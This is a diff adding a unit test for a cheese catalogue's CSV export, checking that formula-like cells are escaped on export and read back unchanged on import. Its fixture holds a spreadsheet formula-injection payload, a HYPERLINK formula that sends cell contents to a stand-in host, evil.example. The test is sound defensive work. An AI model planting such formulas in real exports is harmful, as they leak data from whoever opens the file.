@@ -23,6 +23,21 @@ describe('cheese export', () => {
       description: brie.description, image_url: brie.image_url,
     });
   });
+  it('neutralises formula-like cells, and the import reads them back as typed', () => {
+    const evil: Cheese = {
+      ...brie, id: '22222222-2222-4222-8222-222222222222', name: '=HYPERLINK("http://evil.example/?leak="&A2,"Open")', 
+      origin_region: '+33 Jura', origin_country: '@France', ageing_period: "'=already quoted", description: '-2 weeks in brine',
+    };
+    const csv = cheesesToCsv([evil]);
+    const line = csv.split('\r\n')[1];
+    expect(line.startsWith(`"'=HYPERLINK(""http://evil.example/?leak=""&A2,""Open"")",Soft,Cow,'@France,'+33 Jura,''=already quoted,'-2 weeks in brine,`)).toBe(true);
+    const p = parseCsv(csv);
+    const r = prepareRows('cheeses', p.headers, p.rows, autoMatch(p.headers, 'cheeses'), null);
+    expect(r.invalid).toEqual([]);
+    expect(r.valid[0].payload).toMatchObject({
+      name: evil.name, origin_country: '@France', origin_region: '+33 Jura', ageing_period: "'=already quoted", description: '-2 weeks in brine',
+    });
+  });
   it('names the file by date', () => {
     expect(exportFileName(new Date('2026-11-21T23:00:00Z'))).toBe('cheeses-2026-11-21.csv');
   });
